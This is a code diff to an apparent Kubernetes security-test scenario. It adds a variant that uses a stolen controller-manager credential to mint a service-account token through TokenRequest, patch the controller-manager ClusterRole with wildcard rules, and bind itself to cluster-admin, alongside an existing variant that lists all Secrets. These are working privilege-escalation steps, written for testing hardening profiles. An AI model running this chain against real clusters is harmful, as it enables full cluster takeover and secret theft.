@@ -2,7 +2,24 @@
  * kube-controller-manager's credential  --TLS-->  kube-apiserver  -->  every Secret
  */
 import { STRANGER, thiefOf } from '../../lib/scenario/footholds.ts'
-import { scenario } from '../../lib/scenario/scenario.ts'
+import { clusterAdminBinding, isBound } from '../../lib/scenario/store-write.ts'
+import { scenario, type Variant } from '../../lib/scenario/scenario.ts'
+
+const VARIANT: Omit<Variant, 'id' | 'title' | 'goal'> = {
+  foothold: thiefOf('controller-manager.conf'),
+  expect: {
+    open: { notApplicable: 'its kubeconfig holds no credential to steal' },
+    encrypted: { kind: 'through' },
+    kubeadm: { kind: 'through' },
+    hardened: { kind: 'through' },
+    'zero-trust': { kind: 'through' },
+  },
+  twin: {
+    otherwise: { through: { foothold: thiefOf('scheduler.conf') }, stopped: { weaken: 'authorization-mode' } },
+    // There every credential opens everything.
+    encrypted: { through: { foothold: STRANGER } },
+  },
+}
 
 export default scenario({
   title: 'The controller-manager is cluster-admin in disguise',
@@ -12,26 +29,45 @@ proves who holds the key, not that the right one does.`,
   cis: ['1.1.17', '1.3.3'],
   attack: ['T1528', 'T1552.007'],
   variants: [
+    { id: 'a', title: 'LIST of all Secrets', goal: { read: 'secret' }, ...VARIANT },
     {
-      id: 'a',
-      title: 'LIST of all Secrets',
-      foothold: thiefOf('controller-manager.conf'),
-      goal: { read: 'secret' },
-      expect: {
-        open: { notApplicable: 'its kubeconfig holds no credential to steal' },
-        encrypted: { kind: 'through' },
-        kubeadm: { kind: 'through' },
-        hardened: { kind: 'through' },
-        'zero-trust': { kind: 'through' },
-      },
-      twin: {
-        otherwise: { through: { foothold: thiefOf('scheduler.conf') }, stopped: { weaken: 'authorization-mode' } },
-        // There every credential opens everything.
-        encrypted: { through: { foothold: STRANGER } },
-      },
+      id: 'b',
+      title: `a controller's token by TokenRequest, and with it a role without bounds`,
+      goal: { write: 'a ClusterRoleBinding to cluster-admin', placed: isBound },
+      ...VARIANT,
     },
   ],
-  async attempt(world) {
-    return [(await world.api({ path: '/api/v1/secrets' })).body]
+  async attempt(world, variant) {
+    if (variant === 'a') return [(await world.api({ path: '/api/v1/secrets' })).body]
+    const accounts = '/api/v1/namespaces/kube-system/serviceaccounts'
+    const asked = await world.api({
+      method: 'POST',
+      path: `${accounts}/clusterrole-aggregation-controller/token`,
+      body: { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} },
+    })
+    const { token } = (JSON.parse(asked.body || '{}') as { status?: { token?: string } }).status ?? {}
+    const roles = '/apis/rbac.authorization.k8s.io/v1'
+    // Whoever may escalate may write any rule into any role: here into the thief's own.
+    const widened = await world.api({
+      method: 'PATCH',
+      path: `${roles}/clusterroles/system:kube-controller-manager`,
+      headers: { 'Content-Type': 'application/json-patch+json' },
+      with: kubeconfigWith(world.network.apiserver, token ?? ''),
+      body: [{ op: 'add', path: '/rules/-', value: { apiGroups: ['*'], resources: ['*'], verbs: ['*'] } }],
+    })
+    const { object } = clusterAdminBinding(world.mark)
+    const bound = await world.api({ method: 'POST', path: `${roles}/clusterrolebindings`, body: object })
+    return [asked.body, widened.body, bound.body]
   },
 })
+
+function kubeconfigWith(server: string, token: string): string {
+  return JSON.stringify({
+    apiVersion: 'v1',
+    kind: 'Config',
+    'current-context': 'found',
+    clusters: [{ name: 'cluster', cluster: { server, 'insecure-skip-tls-verify': true } }],
+    contexts: [{ name: 'found', context: { cluster: 'cluster', user: 'found' } }],
+    users: [{ name: 'found', user: { token } }],
+  })
+}
